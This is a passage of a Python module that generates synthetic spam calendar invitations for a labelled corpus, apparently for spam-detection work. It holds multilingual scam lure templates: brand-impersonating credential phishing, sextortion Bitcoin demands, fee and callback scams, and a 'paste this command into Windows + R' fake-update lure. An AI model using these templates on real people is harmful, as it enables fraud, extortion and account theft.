# -*- coding: utf-8 -*-
"""Spam categories.  Every text here was written for this corpus."""
import datetime as dt

from . import langs
from .common import (custom_profile, ev, fill, lookalike, org_person, other_people, phone, recipient, sender_for,
                     spam_link, spec, tz_for)
from .core import R, Obj, alnum, arrival, chance, digits, event_slot, hexs, org_of, person, pick, uuid4

SPOOFABLE = ('outlook', 'thunderbird', 'applemail', 'custom')


def _sender(client, lang, roles=('free', 'org', 'spoof', 'lookalike'), brand='secure', name=None, org=None):
    roles = [r for r in roles if r != 'spoof' or client in SPOOFABLE]
    if client in ('nextcloud', 'zimbra', 'sogo'):
        roles = [r for r in roles if r in ('org', 'lookalike')] or ['org']
    role = pick(roles)
    if role == 'lookalike':
        d = lookalike(brand)
        p = sender_for(client if client not in ('google',) else 'custom', lang, 'org', domain=d, name=name)
        if client == 'yahoo':
            p = sender_for(client, lang, 'free', name=name)
        p.role = 'lookalike'
        return p
    if role == 'spoof':
        d = pick([lookalike(brand), org_of(lang)[1], pick(langs.RCPT_DOMAINS[lang])])
        p = sender_for(client, lang, 'spoof', domain=d, name=name)
        p.role = 'spoof'
        return p
    p = sender_for(client, lang, role, org=org, name=name)
    p.role = 'compromised' if role == 'org' else 'free'
    return p


def _finish(s, client, quirky=0.6):
    """Attach spam-tool quirks for hand-rolled senders."""
    if client == 'custom':
        s.profile = s.profile or custom_profile('spamtool')
        r = R.random()
        if r < 0.25 * quirky / 0.6:
            s.method = None
        elif r < 0.45 * quirky / 0.6:
            s.method_param = pick(['REQUEST', 'PUBLISH', ''])
        if chance(0.15):
            s.quirks = {'lf'}
            s.profile['cal_cte'] = 'base64'
    if s.sender.kind == 'spoof' and client == 'outlook':
        s.variant = 'desktop'
    if client not in ('zoom',) and chance(0.05):
        # spam that got through to a mailing list and was relayed to its members
        ldom = pick(['lists.openfoundation.example', 'lists.hamradio-club.test', 'groups.cityorchestra.test', 'lists.uni-musterstadt.example'])
        lname = pick(['members', 'general', 'announce', 'users'])
        s.listinfo = dict(domain=ldom, addr='%s@%s' % (lname, ldom), name=lname, tag=lname if chance(0.6) else None,
                          munge=chance(0.35), mm3=chance(0.6), to_list=True)
        s.desc_line += ' (relayed by a mailing list)'
    return s


def _atts(rc, n, lang=None):
    return other_people(n, lang, [rc.domain] if chance(0.5) else None)


def _brandname(lang):
    return pick(['Ray-Ban', 'Oakley', 'Michael Kors', 'Pandora', 'UGG', 'Louis Vuitton', 'Coach', 'Nike', 'Moncler', 'Canada Goose'])


# ====================================================================== 1 retail sale wave
RETAIL_EN = [
    ('{b} Sunglasses {p}% OFF – Today Only!', '{b} official outlet clearance sale.\nAll styles {p}% off, free shipping worldwide.\nShop now: {u}'),
    ('{b} Black Friday Sale: ${price} Only', 'Black Friday deals are live!\n{b} bags & accessories from ${price}.\n{u}\nLimited stock.'),
    ('Clearance: {b} {p}% off + free gift', 'Hi,\n\nOur warehouse is closing and everything must go. {b} up to {p}% off this week.\n\nBrowse the collection: {u}\n\nUnsubscribe: reply STOP'),
    ('{b} Cyber Monday {p}% Discount', '{b} Cyber Monday. Best prices of the year, ends at midnight.\n>> {u}'),
    ('Your exclusive {b} member price: ${price}', 'Member-only price unlocked for {e}.\nClaim before it expires: {u}'),
    ('Christmas Sale {b} – {p}% off everything', 'Merry Christmas! Enjoy {p}% off {b} sitewide.\nOrder today, delivered before Dec 24.\n{u}'),
]
RETAIL_L = {
    'zh': ('【限時特價】{b}太陽眼鏡 {p}折起 全館免運', '{b}官方直營店年終清倉，全館{p}折起，免運費。\n立即搶購：{u}\n數量有限，售完為止。'),
    'ja': ('【激安】{b} アウトレット 最大{p}%OFF', '{b}正規品アウトレットセール開催中！\n最大{p}%OFF、送料無料。\n今すぐチェック → {u}'),
    'de': ('{b} Sonnenbrillen Ausverkauf – bis zu {p} % Rabatt', 'Nur heute: {b} Sonnenbrillen bis zu {p} % reduziert.\nKostenloser Versand in ganz Deutschland.\nJetzt shoppen: {u}'),
    'fr': ('Soldes {b} : -{p}% aujourd\'hui seulement', 'Vente privée {b} : jusqu\'à -{p}% sur toute la collection.\nLivraison gratuite.\nEn profiter : {u}'),
    'ko': ('[특가] {b} 명품 최대 {p}% 할인', '{b} 정품 아울렛 특별 할인 행사!\n최대 {p}% 할인, 무료 배송.\n지금 확인하세요: {u}'),
    'es': ('Liquidación {b}: {p}% de descuento', 'Gran liquidación de {b}. Hasta un {p}% de descuento y envío gratis.\nCompra ahora: {u}'),
}


def retail(lang, client, i):
    arr = arrival(2016.6, 2018.2) if chance(0.6) else arrival(2018, 2026.8)
    tz = tz_for(lang)
    rc = recipient(lang)
    b = _brandname(lang)
    p = pick([70, 80, 85, 90, 75]) if lang not in ('zh',) else pick([1, 2, 3])
    u = spam_link(pick(['look', 'short', 'look', 'pages']), b.split()[0])
    if lang == 'en':
        t = pick(RETAIL_EN)
    else:
        t = RETAIL_L[lang]
    kw = dict(b=b, p=p, u=u, price=pick(['19.99', '24.99', '29.95', '39']), e=rc.addr)
    summ, desc = fill(t[0], **kw), fill(t[1], **kw)
    snd = _sender(client, lang, ('free', 'free', 'spoof', 'lookalike'), brand=b.split()[0], name=pick([None, b + ' Outlet', b + ' Store', None]))
    if snd.name is None:
        snd.name = person(lang).name
    s0, e0 = event_slot(arr, tz, days=(0, 6))
    loc = pick([u, b + ' Official Store', '', u])
    e = ev(summ, desc if chance(0.85) else None, loc, s0, e0)
    if chance(0.3):
        e.url = u
    n = R.choice([0, 8, 25, 60, 120])
    if lang == 'zh':
        tz = 'Asia/Taipei'
    s = spec('spam', 'retail-sale-wave', lang, client, '%s discount wave, shop link %s' % (b, 'in description' if e.desc else 'in location/url'),
             snd, rc, arr, tz, [e], others=_atts(rc, n, lang), zht=(lang == 'zh'))
    return _finish(s, client)


# ====================================================================== 2 prize / survey / gift card
PRIZE_EN = [
    ('Congratulations {first}! Your ${amt} {shop} Gift Card is ready', 'You have been selected to receive a ${amt} {shop} gift card.\nComplete the 30-second customer survey to claim it:\n{u}\n\nOffer reserved for {e} until {d}.'),
    ('{shop} Loyalty Program: reward pending', 'Dear customer,\nThank you for being a loyal {shop} member. You are eligible for an exclusive reward.\nAnswer 4 quick questions: {u}\nShipping fee only $1.95.'),
    ('Final notice: unclaimed {prize}', 'This is your final notice. An {prize} has been reserved in your name.\nConfirm delivery address today: {u}'),
    ('{shop} Anniversary Survey – {amt} USD reward', 'We are celebrating our anniversary! Tell us about your experience and receive {amt} USD.\nStart: {u}'),
    ('You\'ve won: {prize}', 'Weekly draw result: your email address {e} was selected.\nPrize: {prize}\nClaim before {d}: {u}'),
    ('Thank you gift from {shop}', 'As a thank you for shopping with {shop}, a free {prize} is waiting for you. Only pay shipping.\n{u}'),
]
PRIZE_L = {
    'ru': ('Поздравляем! Вы выиграли {prize}', 'Ваш адрес {e} выбран победителем ежегодного розыгрыша.\nПриз: {prize}\nПодтвердите получение до {d}: {u}'),
    'pt': ('Parabéns! Você foi selecionado para receber um {prize}', 'Olá {first},\nVocê foi escolhido em nossa pesquisa de satisfação. Responda 3 perguntas e receba seu prêmio.\nAcesse: {u}\nPague apenas o frete de R$ 12,90.'),
    'it': ('Congratulazioni! Hai vinto un buono {shop} da {amt}€', 'Gentile cliente,\nil tuo indirizzo è stato estratto. Completa il sondaggio per ricevere il buono da {amt}€.\n{u}\nOfferta valida fino al {d}.'),
    'tr': ('Tebrikler! {shop} {amt} TL hediye çeki kazandınız', 'Değerli müşterimiz,\n{amt} TL değerindeki hediye çekiniz hazır. Kısa anketi doldurun ve hemen kullanın:\n{u}'),
    'vi': ('Chúc mừng! Bạn đã trúng thưởng {prize}', 'Chương trình tri ân khách hàng: địa chỉ {e} đã trúng giải.\nNhận thưởng trước ngày {d}: {u}'),
    'th': ('ยินดีด้วย! คุณได้รับบัตรกำนัล {shop} มูลค่า {amt} บาท', 'เรียนลูกค้า\nคุณได้รับสิทธิ์รับบัตรกำนัลมูลค่า {amt} บาท\nกรอกแบบสอบถามสั้นๆ เพื่อรับรางวัล: {u}'),
}


def prize(lang, client, i):
    arr = arrival(2017, 2026.8)
    tz = tz_for(lang)
    rc = recipient(lang)
    shop = {'it': pick(['Esselunga', 'Coop', 'Conad']), 'tr': pick(['Migros', 'A101', 'Trendyol']), 'th': pick(['Lotus\'s', 'Big C', 'Central']),
            'pt': 'Natura'}.get(lang, pick(['Walmart', 'Costco', 'Amazon', 'Target', "Kohl's", 'Lowe\'s', 'Home Depot', 'Starbucks']))
    pz = pick(['iPhone 15 Pro', 'Dyson V15', 'Samsung Galaxy S24', 'Apple Watch', 'Le Creuset set', 'YETI cooler', 'PlayStation 5'])
    u = spam_link(None, shop.split()[0].replace("'", ''), rc.addr)
    d = (arr + dt.timedelta(days=2)).strftime('%d.%m.%Y' if lang != 'en' else '%B %d')
    t = pick(PRIZE_EN) if lang == 'en' else PRIZE_L[lang]
    kw = dict(first=rc.first, amt=pick([50, 100, 250, 500, 1000]), shop=shop, prize=pz, u=u, e=rc.addr, d=d)
    summ, desc = fill(t[0], **kw), fill(t[1], **kw)
    snd = _sender(client, lang, ('free', 'free', 'spoof', 'lookalike', 'org'), brand=shop.split()[0].replace("'", ''),
                  name=pick([shop + ' Rewards', shop + ' Customer Care', None, 'Rewards Center']))
    if snd.name is None:
        snd.name = person(lang).name
    s0, e0 = event_slot(arr, tz, days=(0, 3))
    e = ev(summ, desc, pick(['Online', u, '', shop]), s0, e0)
    r = R.random()
    if r < 0.25:
        e.desc = None if chance(0.5) else kw['first'] + ','
        e.loc = u
    elif r < 0.4:
        e.xalt = '<html><body><h2>%s</h2><p><a href="%s"><img src="https://%s/img/%s.png" alt="claim"></a></p></body></html>' % (summ, u, lookalike(shop.split()[0].replace("'", '')), alnum(8))
    s = spec('spam', 'prize-survey-giftcard', lang, client, '%s reward/survey lure' % shop, snd, rc, arr, tz, [e],
             others=_atts(rc, R.choice([0, 0, 5, 30]), lang))
    return _finish(s, client)


# ====================================================================== 3 crypto / investment
CRYPTO_EN = [
    ('Withdrawal pending: {btc} BTC', 'Your account has an unclaimed balance of {btc} BTC (~${usd}).\nThe withdrawal window closes in 24 hours.\nLog in to confirm: {u}'),
    ('AI Trading Masterclass – live onboarding', 'Join our live session and see how our AI bot made {pct}% last month.\nMinimum deposit $250. Your personal account manager will call you.\nRegister: {u}'),
    ('Private allocation confirmed – {tok} presale', 'Your whitelist spot for the {tok} token presale is confirmed.\nConnect your wallet before launch: {u}\nDo not share this link.'),
    ('Portfolio review with your account manager', 'Hello {first},\nas discussed, your portfolio shows a profit of ${usd}. We need to verify your identity before payout.\nCall me at {ph} or WhatsApp.\nRegards, {agent}'),
    ('Live: {celeb} Bitcoin giveaway', 'Send any amount between 0.1 and 20 BTC and receive double back. Live event for 2 hours only.\n{u}'),
    ('Passive income: 2.1% daily, guaranteed', 'Our arbitrage fund pays 2.1% every day. Start with as little as $500 USDT.\nTelegram: {tg}\nSignup: {u}'),
]
CRYPTO_L = {
    'ru': ('Ваш криптокошелёк: {btc} BTC ожидают вывода', 'На вашем счёте обнаружен неполученный баланс {btc} BTC.\nПодтвердите вывод в течение 24 часов: {u}'),
    'de': ('Ihr persönlicher Anlageberater – Erstgespräch', 'Sehr geehrte/r {first},\nmit nur 250 € Startkapital können Sie von unserer KI-Handelsplattform profitieren. Durchschnittliche Rendite: {pct} % pro Monat.\nIhr Berater ruft Sie zum vereinbarten Termin an.\nKonto eröffnen: {u}'),
    'ar': ('أرباحك من التداول جاهزة للسحب', 'عزيزي العميل،\nرصيدك الحالي {usd} دولار. لإتمام السحب يرجى تأكيد هويتك خلال 24 ساعة.\n{u}\nللتواصل عبر واتساب: {ph}'),
    'hi': ('सिर्फ ₹21,000 निवेश करें, रोज़ ₹8,500 कमाएँ', 'नमस्ते {first} जी,\nहमारे AI ट्रेडिंग ऐप से हज़ारों लोग रोज़ कमा रहे हैं।\nअभी जुड़ें: {u}\nटेलीग्राम: {tg}'),
    'ko': ('[VIP 리딩방] 코인 수익률 매일 {pct}%', '안녕하세요 {first}님,\n전문가 리딩으로 매일 안정적인 수익을 보장합니다.\n무료 체험방 입장: {tg}\n가입: {u}'),
    'nl': ('Uw Bitcoin-tegoed van € {usd} staat klaar', 'Beste {first},\nuw crypto-account heeft een saldo van € {usd}. Bevestig uw gegevens om uit te laten betalen.\n{u}'),
}


def crypto(lang, client, i):
    arr = arrival(2017.5, 2026.8)
    tz = tz_for(lang)
    rc = recipient(lang)
    u = spam_link(None, pick(['coinbase', 'binance', 'kraken', 'bitvault', 'quantumai', 'trustwallet']), rc.addr)
    kw = dict(btc='%.4f' % R.uniform(0.2, 3.5), usd='{:,}'.format(R.randint(8000, 95000)), pct=pick([30, 47, 120, 312, 3000]),
              tok=pick(['NOVA', 'ZEPH', 'QNTX', 'ORBX', 'LUMA']), first=rc.first, ph=phone(pick(['uk', 'us', 'de'])),
              agent=person('en').name, celeb=pick(['Elon Musk', 'Michael Saylor', 'Cathie Wood']),
              tg='https://t.me/%s' % pick(['vip_signals_', 'profit_desk_', 'coach_', 'arb_team_']) + alnum(5).lower(), u=u)
    t = pick(CRYPTO_EN) if lang == 'en' else CRYPTO_L[lang]
    summ, desc = fill(t[0], **kw), fill(t[1], **kw)
    snd = _sender(client, lang, ('free', 'free', 'lookalike', 'org', 'spoof'), brand=pick(['coinbase', 'binance', 'wallet', 'capital']))
    s0, e0 = event_slot(arr, tz, days=(0, 5))
    e = ev(summ, desc, pick(['Online', 'Zoom', u, 'Telegram', '']), s0, e0)
    if chance(0.25):
        e.conf = [(u, 'Join live session')]
    s = spec('spam', 'crypto-investment', lang, client, 'crypto/investment fraud, %s' % ('withdrawal lure' if 'BTC' in summ else 'platform/manager pitch'),
             snd, rc, arr, tz, [e], others=_atts(rc, R.choice([0, 0, 3, 40]), lang))
    return _finish(s, client)


# ====================================================================== 4 dating / sextortion
DATING_EN = [
    ('Hi {first} :)', 'Hey, I\'m {girl}, {age}. I saw your profile and I think we have a lot in common.\nI don\'t check this calendar often, write me here: {u}\nKisses'),
    ('{n} new messages from women near you', 'You have {n} unread messages and 2 private photos waiting.\nView them now (free registration): {u}'),
    ('Coffee tonight?', 'I\'m new in town and looking for someone to show me around ;) my pics: {u}'),
    ('Your device was compromised', 'I have had access to your device for some time and recorded you through your webcam.\nTransfer ${amt} in Bitcoin to the address below within 48 hours or the video goes to all your contacts.\nBTC: {wallet}\nDo not reply, this invitation was sent from your own account.'),
    ('Last warning {e}', 'I know your password and I have your videos. Pay {amt} USD to {wallet} and I delete everything. You have 2 days.'),
    ('Private invitation from {girl}', '{girl} ({age}) invited you to a private chat.\nAccept: {u}'),
]
DATING_L = {
    'ru': ('Привет, {first}!', 'Привет! Я {girl}, мне {age}. Увидела твой профиль и решила написать :)\nМои фото и контакты здесь: {u}'),
    'he': ('היי {first}, רוצה להכיר?', 'היי, אני {girl}, בת {age}. ראיתי את הפרופיל שלך ונראה לי שיש לנו הרבה במשותף.\nתכתוב לי כאן: {u}'),
    'pl': ('Cześć {first}, masz chwilę?', 'Cześć, jestem {girl}, mam {age} lat. Szukam kogoś na wspólne wieczory ;)\nMoje zdjęcia: {u}'),
    'ja': ('【非公開】近くの女性からメッセージが届いています', '{first}様\n{n}件の未読メッセージがあります。\n写真付きプロフィールを確認する → {u}'),
    'fr': ('Dernier avertissement', 'J\'ai piraté votre appareil et enregistré des vidéos compromettantes via votre webcam.\nVirez {amt} € en Bitcoin à l\'adresse suivante sous 48 heures : {wallet}\nSinon la vidéo sera envoyée à tous vos contacts.'),
}


def dating(lang, client, i):
    arr = arrival(2016.3, 2026.8)
    tz = tz_for(lang)
    rc = recipient(lang)
    u = spam_link(pick(['look', 'short', 'pages', 'sites']), pick(['meetme', 'flirt', 'datinghub', 'lovely']))
    girl = {'ru': pick(['Алина', 'Настя', 'Вика']), 'he': pick(['מאיה', 'שני']), 'pl': pick(['Kasia', 'Ola', 'Monika'])}.get(lang, pick(['Anna', 'Natalie', 'Jessica', 'Olga', 'Mia']))
    kw = dict(first=rc.first, girl=girl, age=R.randint(22, 34), n=R.randint(3, 12), u=u, amt=pick([1450, 1200, 1950, 2500]),
              wallet='bc1q' + alnum(38, 'abcdefghijklmnopqrstuvwxyz023456789'), e=rc.addr)
    t = pick(DATING_EN) if lang == 'en' else DATING_L[lang]
    summ, desc = fill(t[0], **kw), fill(t[1], **kw)
    sext = 'Bitcoin' in desc or 'BTC' in desc
    if sext and chance(0.5) and client in SPOOFABLE:
        # sextortion classic: From = the victim's own address
        snd = Obj(name=rc.name, addr=rc.addr, domain=rc.domain, kind='spoof', role='spoof-self')
    else:
        snd = _sender(client, lang, ('free', 'free', 'spoof'), brand='date', name=girl if not sext else None)
        if snd.name is None:
            snd.name = person(lang).name if chance(0.5) else ''
    s0, e0 = event_slot(arr, tz, days=(0, 3), hours=(18, 23))
    e = ev(summ, desc, pick(['', u, 'My place ;)', 'Online']), s0, e0)
    if chance(0.3) and not sext:
        e.attach = [(u, None)]
    s = spec('spam', 'dating-sextortion', lang, client, 'sextortion bitcoin demand' if sext else 'dating lure to external profile', snd, rc, arr, tz, [e])
    return _finish(s, client)


# ====================================================================== 5 delivery / toll / tax / fine fees
FEE_EN = [
    ('USPS: Redelivery fee ${fee} required', 'USPS Tracking {trk}\nYour package could not be delivered due to an incomplete address.\nPay the ${fee} redelivery fee within 48 hours: {u}'),
    ('E-ZPass: Unpaid toll balance ${fee}', 'Our records show an unpaid toll of ${fee}. To avoid a late fee of $50.00 please settle your balance today.\n{u}'),
    ('IRS: Tax refund of ${refund} pending', 'You are eligible for a tax refund of ${refund}. Submit your refund request form before {d}.\n{u}'),
    ('HMRC tax rebate notification', 'After the last annual calculation of your fiscal activity we have determined that you are eligible to receive a tax rebate of GBP {refund}.\nComplete the form: {u}'),
    ('Parking violation notice #{trk}', 'A parking violation was recorded for your vehicle. Fine: ${fee}. Pay online within 7 days to avoid additional penalties: {u}'),
    ('FedEx: customs duty outstanding', 'Shipment {trk} is held at customs. Duty and handling: ${fee}.\nRelease your parcel: {u}'),
    ('DVLA: Vehicle tax payment failed', 'We were unable to collect your latest vehicle tax payment. Update your payment details: {u}'),
]
FEE_L = {
    'nl': ('PostNL: Uw pakket wacht – betaal €{fee}', 'Uw pakket {trk} kon niet worden bezorgd. Betaal de verzendkosten van €{fee} om een nieuwe bezorging in te plannen:\n{u}'),
    'de': ('DHL: Zollgebühr von {fee} € offen', 'Ihre Sendung {trk} wartet auf die Zahlung der Zollgebühr ({fee} €).\nBitte bezahlen Sie innerhalb von 48 Stunden: {u}'),
    'fr': ('ANTAI : avis de contravention n° {trk}', 'Vous avez une amende impayée de 35 €. Sans règlement sous 72h, le montant sera majoré à 75 €.\nPayer en ligne : {u}'),
    'es': ('DGT: notificación de multa pendiente', 'Tiene una sanción de tráfico pendiente de pago ({fee} €). Evite el recargo abonando hoy:\n{u}'),
    'it': ('Poste Italiane: pacco in giacenza', 'Il tuo pacco {trk} è in giacenza. Paga {fee} € di spese di spedizione per programmare la consegna:\n{u}'),
    'pt': ('CTT: encomenda retida na alfândega', 'A sua encomenda {trk} aguarda pagamento de taxas alfandegárias ({fee} €).\nPague aqui: {u}'),
}


def fee(lang, client, i):
    arr = arrival(2018, 2026.8)
    tz = tz_for(lang)
    rc = recipient(lang)
    t = pick(FEE_EN) if lang == 'en' else FEE_L[lang]
    brand = t[0].split(':')[0].split()[0]
    u = spam_link(pick(['look', 'look', 'short', 'pages', 'webapp']), brand.lower(), None)
    kw = dict(fee=pick(['1.99', '2.99', '3.45', '6.99', '1,95', '2,99', '12.50']), refund='{:,.2f}'.format(R.uniform(180, 1400)),
              trk=pick(['US', 'LX', 'CH', 'RR', 'NL']) + digits(9) + pick(['US', 'NL', 'DE']), d=(arr + dt.timedelta(days=3)).strftime('%m/%d/%Y'), u=u)
    summ, desc = fill(t[0], **kw), fill(t[1], **kw)
    snd = _sender(client, lang, ('free', 'lookalike', 'spoof', 'org'), brand=brand, name=pick([brand, brand + ' Service', brand + ' Notification', None]))
    if snd.name is None:
        snd.name = brand
    s0, e0 = event_slot(arr, tz, days=(0, 2))
    e = ev(summ, desc, pick(['', 'Online', u]), s0, e0)
    if chance(0.3):
        e.url = u
        e.desc = desc.replace(u, '').strip()
    e.alarms = [{'trigger': '-PT%dM' % m} for m in pick([[15], [60, 15], [1440, 60, 10], []])]
    s = spec('spam', 'fee-scam', lang, client, '%s small-fee payment lure' % brand, snd, rc, arr, tz, [e])
    return _finish(s, client)


# ====================================================================== 6 credential phishing
PHISH_EN = [
    ('Microsoft 365', 'Password expiry notice for {e}', 'The password for {e} expires today.\nTo keep using your current password, verify your account here:\n{u}\n\nMicrosoft 365 Admin'),
    ('DocuSign', 'Please DocuSign: {docname}', '{sender} sent you a document to review and sign.\nREVIEW DOCUMENT: {u}\n\nDo not share this email. The link expires in 48 hours.'),
    ('PayPal', 'Unusual sign-in activity on your PayPal account', 'We noticed a login from a new device (Windows, Lagos). If this was not you, secure your account: {u}'),
    ('Adobe', '{sender} shared "{docname}.pdf" with you', 'You have been invited to view a document via Adobe Document Cloud.\nOpen: {u}'),
    ('Dropbox', 'Dropbox Transfer: {docname} (3 files)', '{sender} sent you files via Dropbox Transfer.\nDownload before {d}: {u}'),
    ('Chase', 'Chase: Your online access has been suspended', 'Dear customer, we detected irregular activity. Your access has been temporarily limited.\nRestore access: {u}'),
    ('SSA', 'Your Social Security Statement is available', 'Your annual Social Security Statement has been issued.\nDownload and review: {u}'),
    ('Microsoft 365', 'Voicemail received (0:{sec}) – {e}', 'You received a new voicemail from {ph}.\nListen to message: {u}'),
    ('SharePoint', 'Shared meeting file: {docname}', '{sender} shared a file with you for the upcoming meeting.\nOpen in SharePoint: {u}'),
]
PHISH_L = {
    'de': ('Sparkasse', 'Sparkasse: Aktualisierung des pushTAN-Verfahrens erforderlich', 'Sehr geehrte Kundin, sehr geehrter Kunde,\naufgrund neuer Sicherheitsrichtlinien muss Ihr pushTAN-Verfahren bis {d} aktualisiert werden.\nJetzt aktualisieren: {u}'),
    'el': ('Πειραιώς', 'Τράπεζα Πειραιώς: Επιβεβαίωση στοιχείων', 'Αγαπητέ πελάτη,\nο λογαριασμός σας έχει περιοριστεί προσωρινά. Επιβεβαιώστε τα στοιχεία σας εδώ: {u}'),
    'ar': ('AlRajhi', 'مصرف الراجحي: تحديث بيانات الحساب', 'عميلنا العزيز،\nيرجى تحديث بياناتك لتجنب إيقاف الحساب خلال 24 ساعة.\n{u}'),
    'he': ('Leumi', 'בנק לאומי: הגישה לחשבונך הוגבלה', 'לקוח יקר,\nזיהינו פעילות חריגה בחשבונך. לאימות הפרטים: {u}'),
    'zh': ('ICBC', '【工商银行】您的账户存在异常登录', '尊敬的客户：\n系统检测到您的网银账户于异地登录，为保障资金安全，请立即验证身份：\n{u}'),
    'th': ('KBank', 'กสิกรไทย: บัญชีของคุณถูกระงับชั่วคราว', 'เรียนลูกค้า\nบัญชีของคุณถูกระงับเนื่องจากพบการใช้งานผิดปกติ กรุณายืนยันตัวตนที่: {u}'),
    'pl': ('PKO', 'PKO BP: wymagana weryfikacja konta', 'Szanowny Kliencie,\nw celu dalszego korzystania z bankowości elektronicznej prosimy o weryfikację danych do {d}:\n{u}'),
}


def phish(lang, client, i):
    arr = arrival(2017, 2026.8)
    tz = tz_for(lang)
    rc = recipient(lang)
    t = pick(PHISH_EN) if lang == 'en' else PHISH_L[lang]
    brand = t[0]
    u = spam_link(None, brand.lower().replace(' ', ''), rc.addr)
    docs = ['Q3 Bonus Allocation', 'Revised Salary Structure 2024', 'Signed NDA', 'Remittance Advice', 'HR Policy Update', 'Invoice_%s' % digits(5), 'Contract Amendment']
    kw = dict(e=rc.addr, u=u, docname=pick(docs), sender=pick([person('en').name, 'HR Department', 'Payroll']), d=(arr + dt.timedelta(days=2)).strftime('%d.%m.%Y'),
              sec=R.randint(10, 59), ph=phone('us'))
    summ, desc = fill(t[1], **kw), fill(t[2], **kw)
    snd = _sender(client, lang, ('free', 'lookalike', 'spoof', 'org', 'org'), brand=brand.lower().replace(' ', ''),
                  name=pick([brand, brand + ' Notification', brand + ' Support', None]))
    if snd.name is None:
        snd.name = person(lang).name
    s0, e0 = event_slot(arr, tz, days=(0, 2))
    e = ev(summ, desc, '', s0, e0)
    r = R.random()
    where = 'description'
    if r < 0.2:
        e.desc = None if chance(0.5) else summ
        e.loc = u
        where = 'location'
    elif r < 0.35:
        e.attach = [(u, pick(['application/pdf', None, 'text/html']))]
        e.desc = desc.replace(u, '').strip()
        where = 'ATTACH'
    elif r < 0.45:
        e.conf = [(u, brand + ' secure viewer')]
        e.desc = desc.replace(u, '(see link)')
        where = 'CONFERENCE'
    elif r < 0.55:
        e.xalt = '<html><body><table><tr><td style="background:#0067b8;padding:12px"><a style="color:#fff" href="%s">%s</a></td></tr></table></body></html>' % (u, 'Review' if lang == 'en' else '&#10148;')
        e.desc = desc.replace(u, '').strip()
        where = 'X-ALT-DESC'
    s = spec('spam', 'credential-phish', lang, client, '%s credential phishing, link in %s' % (brand, where), snd, rc, arr, tz, [e],
             others=_atts(rc, R.choice([0, 0, 0, 6]), lang))
    return _finish(s, client)


# ====================================================================== 7 callback scams
CALL_EN = [
    ('Norton 360 subscription renewed', 'Thank you for renewing your Norton 360 Total Protection.\nAmount charged: ${amt}\nInvoice: {inv}\nIf you did not authorise this charge, call our billing team within 24 hours: {ph}'),
    ('Geek Squad auto-renewal confirmation', 'Your Geek Squad protection plan has been auto-renewed for another year.\nTotal: ${amt}\nTo cancel and receive a refund call {ph}'),
    ('PayPal invoice: Bitcoin purchase ${amt}', 'You have received an invoice for the purchase of 0.0{btc} BTC (${amt}).\nIf you did not make this purchase, contact PayPal dispute centre: {ph}'),
    ('Microsoft Defender: threat detected', 'Your PC is infected with Trojan:Win32/Spyware. Your license has expired.\nCall Microsoft Support immediately: {ph}'),
    ('Amazon Prime membership ${amt} charged', 'Your Amazon Prime annual membership has been renewed. Charge: ${amt}.\nTo cancel call {ph} (toll free).'),
    ('McAfee LiveSafe – order {inv}', 'Order {inv}\nProduct: McAfee LiveSafe 5 devices\nAmount: ${amt}\nQuestions or cancellation: {ph}'),
]
CALL_L = {
    'fr': ('Renouvellement Norton 360 – {amt} €', 'Votre abonnement Norton 360 a été renouvelé automatiquement.\nMontant débité : {amt} €\nPour annuler, appelez le {ph}'),
    'es': ('Su suscripción McAfee se ha renovado', 'Importe cobrado: {amt} €\nPedido: {inv}\nSi no reconoce este cargo llame al {ph}'),
    'nl': ('Factuur Geek Squad {inv}', 'Uw Geek Squad-abonnement is verlengd. Bedrag: € {amt}.\nNiet akkoord? Bel binnen 24 uur {ph}'),
    'hi': ('आपका McAfee सब्सक्रिप्शन रिन्यू हो गया', 'प्रिय ग्राहक,\nआपके खाते से ₹{amt} काटे गए हैं। रद्द करने के लिए तुरंत कॉल करें: {ph}'),
    'vi': ('Xác nhận gia hạn gói bảo vệ {inv}', 'Gói bảo vệ thiết bị của bạn đã được gia hạn. Số tiền: {amt} đ.\nĐể hủy, vui lòng gọi {ph}'),
}


def callback(lang, client, i):
    arr = arrival(2019, 2026.8)
    tz = tz_for(lang)
    rc = recipient(lang)
    region = {'fr': 'fr', 'es': 'es', 'nl': 'nl', 'hi': 'in', 'vi': 'vn'}.get(lang, pick(['us', 'us', 'uk']))
    ph = phone(region)
    kw = dict(amt=pick(['399.99', '349.00', '499.95', '289.99', '749.00']) if lang not in ('hi', 'vi') else ('24,999' if lang == 'hi' else '7.490.000'),
              inv=pick(['INV', 'NRT', 'GS', 'ORD']) + '-' + digits(8), ph=ph, btc=digits(4))
    t = pick(CALL_EN) if lang == 'en' else CALL_L[lang]
    summ, desc = fill(t[0], **kw), fill(t[1], **kw)
    snd = _sender(client, lang, ('free', 'free', 'free', 'spoof'), brand='billing')
    if chance(0.5):
        snd.name = pick(['Billing Department', 'Customer Support', 'Order Desk', 'Norton Billing', snd.name])
    s0, e0 = event_slot(arr, tz, days=(0, 2))
    e = ev(summ, desc, pick(['Call ' + ph, ph, 'Billing Support', '']), s0, e0)
    s = spec('spam', 'callback-scam', lang, client, 'fake renewal/invoice with callback number only', snd, rc, arr, tz, [e],
             others=_atts(rc, R.choice([0, 0, 4]), lang))
    return _finish(s, client)


# ====================================================================== 8 fake updates / paste-this-command
UPD_EN = [
    ('Zoom: client update required before {mtg}', 'Your Zoom client is outdated and cannot join this meeting.\nDownload the latest version: {u}\nMeeting ID: {mid}'),
    ('Microsoft Teams: action required to join', 'This meeting requires Teams version 24.x. Update now to join: {u}'),
    ('Verify your session before the call', 'To protect the meeting, please verify you are human:\n1. Press Windows + R\n2. Paste: {cmd}\n3. Press Enter\nThen join: {j}'),
    ('Google Meet: audio device error fix', 'Participants reported audio problems. Run this fix in PowerShell before joining:\n{cmd}\nJoin: {j}'),
    ('Agenda for {mtg} (Adobe Reader update needed)', 'Please open the agenda before the meeting. If the document does not open, update your reader: {u}'),
    ('Webex plugin update – {mtg}', 'Install the updated meeting plugin ({exe}) to participate: {u}'),
]
UPD_L = {
    'ru': ('Обновите клиент Teams перед совещанием', 'Ваша версия Microsoft Teams устарела. Для участия в совещании «{mtg}» установите обновление: {u}'),
    'tr': ('Toplantı öncesi Zoom güncellemesi gerekli', 'Zoom istemciniz güncel değil. Toplantıya katılmak için yeni sürümü indirin: {u}\nToplantı Kimliği: {mid}'),
    'ko': ('회의 참여 전 보안 플러그인 설치 필요', '안전한 화상회의를 위해 보안 플러그인({exe})을 설치해 주세요.\n설치: {u}'),
    'el': ('Απαιτείται επιβεβαίωση πριν τη σύσκεψη', 'Για να συμμετάσχετε πατήστε Windows + R, επικολλήστε την παρακάτω εντολή και πατήστε Enter:\n{cmd}\nΣύνδεση: {j}'),
